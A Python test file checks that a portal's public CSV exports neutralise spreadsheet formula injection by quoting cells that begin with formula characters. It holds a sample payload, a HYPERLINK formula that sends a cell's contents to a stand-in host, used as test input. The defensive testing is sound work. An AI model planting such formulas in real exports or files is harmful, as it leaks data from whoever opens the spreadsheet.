"""Finding 3: spreadsheet formula injection in the public CSV exports. A cell starting with =, +, -,
@, a tab or a carriage return is read by spreadsheets as a formula; every export writes through
portal.csvsafe, which puts a single quote before such text (docs/security.md, CSV exports)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from factories import create_org, next_rut
from portal import csvsafe

ROOT = Path(__file__).resolve().parents[2]
ATTACK = '=HYPERLINK("http://x/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+56 9", "-2+3", "@SUM(A1)", "\tx", "\rx", ATTACK])
def test_formula_starts_are_quoted(text: str) -> None:
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Fundación", "", " =x", "a=b", 12, -3, 2.5, None])
def test_everything_else_passes_as_is(value: object) -> None:
    assert csvsafe.cell(value) == value


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


async def test_registry_open_data_csv(db, client) -> None:
    await create_org(db, name=ATTACK, status="approved", short_name="@cmd")
    rows = _rows((await client.get("/datos/organizaciones.csv")).text)
    assert rows[0]["legal_name"] == "'" + ATTACK and rows[0]["short_name"] == "'@cmd"


async def test_compromiso_csv(db, client) -> None:
    file_id = await db.fetch_val(
        """INSERT INTO stored_files (sha256, size, filename, content)
           VALUES (repeat('0', 64), 4, 'carta.pdf', '\\x25504446') RETURNING id""")
    await db.execute(
        """INSERT INTO compromiso_companies (rut, name, kind, size, sector, region_code, comuna_code,
                                             carta_file_id, adhered_on)
           VALUES (:rut, :name, 'empresa', 'micro', 'comercio', '05', '05101', :f, '2026-01-05')""",
        {"rut": next_rut(), "name": ATTACK, "f": file_id})
    rows = _rows((await client.get("/compromiso-migrante/organizaciones.csv")).text)
    assert rows[0]["name"] == "'" + ATTACK


def test_every_csv_writer_goes_through_csvsafe() -> None:
    """No module of the portal but csvsafe writes CSV itself (Sello's export, and any new one)."""
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "portal").rglob("*.py")
                 if p.name != "csvsafe.py" and re.search(r"^\s*import csv\b|^\s*from csv import", p.read_text(), re.M)]
    assert offenders == []
